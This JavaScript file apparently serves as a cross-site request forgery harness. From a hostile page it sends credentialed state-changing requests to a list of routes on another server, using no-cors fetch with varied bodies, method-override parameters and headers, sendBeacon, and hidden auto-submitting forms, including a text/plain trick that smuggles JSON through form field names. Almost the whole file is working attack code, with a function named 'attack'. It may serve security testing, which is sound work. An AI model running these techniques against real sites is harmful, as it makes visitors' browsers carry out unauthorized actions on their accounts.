// Every way in which a page can make a browser send a change to somebody else's server. What the page may read of the answer does not matter.
const formTypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];

const bodies = route => ({
  nothing: undefined,
  text: route.json,
  untyped: new Blob([route.json]),
  bytes: new TextEncoder().encode(route.json),
  typed: new Blob([route.json], { type: 'application/json' }),
  plain: new Blob([route.json], { type: 'text/plain' }),
  parameters: new URLSearchParams(route.form),
});

const ways = (address, route, patience) => [
  // A browser sends no other method than POST without asking first; it is asked all the same.
  ...Object.values(bodies(route)).map(body => () => send(address, { method: route.method, mode: 'no-cors', body })),
  ...Object.values(bodies(route)).map(body => () => send(`${address}?_method=${route.method}`, { method: 'POST', mode: 'no-cors', body })),
  ...Object.values(bodies(route)).map(body => () => beacon(address, body, patience)),
  () => send(address, { method: route.method, headers: { 'Content-Type': 'application/json' }, body: route.json }),
  () => send(address, { method: 'POST', headers: { 'X-HTTP-Method-Override': route.method } }),
  () => send(address, { method: 'GET', mode: 'no-cors' }),
  ...formTypes.map(type => () => submit(address, type, route, patience)),
];

// At how many routes an attack is under way at a time.
const atOnce = 4;

// One part of several takes its share of the ways, another one at each route. Who is signed in is tried last, one way after the other.
async function attack(base, routes, part, parts, patience) {
  const attacks = routes.map((route, number) => ({
    isSignIn: route.isSignIn,
    acts: ways(base + route.path, route, patience).filter((_, way) => (way + number + part) % parts === 0),
  }));
  const changes = attacks.filter(({ isSignIn }) => !isSignIn);
  for (let first = 0; first < changes.length; first += atOnce)
    await Promise.all(changes.slice(first, first + atOnce).flatMap(({ acts }) => acts.map(act => act())));
  for (const act of attacks.filter(({ isSignIn }) => isSignIn).flatMap(({ acts }) => acts)) await act();
}

// Where the browser itself forbids a request it throws; the server's log tells what has come through.
async function send(address, options) {
  try {
    await fetch(address, { credentials: 'include', redirect: 'manual', keepalive: false, ...options });
  } catch (refused) {
    console.debug(refused.message);
  }
}

// The page is not told what becomes of a beacon; the browser lists each with what it has fetched when it has ended, whatever the answer was.
const onTheirWay = [];
new PerformanceObserver(list => list.getEntries().filter(({ initiatorType }) => initiatorType === 'beacon').forEach(() => onTheirWay.shift()?.())).observe({ type: 'resource' });

function beacon(address, body, patience) {
  return navigator.sendBeacon(address, body) && new Promise(done => {
    onTheirWay.push(done);
    setTimeout(done, patience);
  });
}

// The oldest way, and the only one that is no script's. A text that is JSON comes out of a plain form when its name holds the beginning.
function submit(address, type, route, patience) {
  return new Promise(done => {
    const frame = document.createElement('iframe');
    frame.name = `target${submit.count = (submit.count ?? 0) + 1}`;
    const form = document.createElement('form');
    Object.assign(form, { action: address, method: 'POST', enctype: type, target: frame.name });
    const fields = type === 'text/plain' ? { [`${route.json.slice(0, -1)}${route.json === '{}' ? '' : ','}"x":"`]: '"}' } : route.form;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement('input');
      Object.assign(input, { type: 'hidden', name, value });
      form.append(input);
    }
    document.body.append(frame, form);
    // Beside what the form brings, the frame loads its empty page once. A download brings nothing, nor does an answer without content: they are waited for as long as the form's own request may take.
    const end = () => { frame.remove(); form.remove(); done(); };
    frame.onload = () => { if (frame.dataset.sent) end(); };
    frame.dataset.sent = 'yes';
    setTimeout(end, patience);
    form.submit();
  });
}
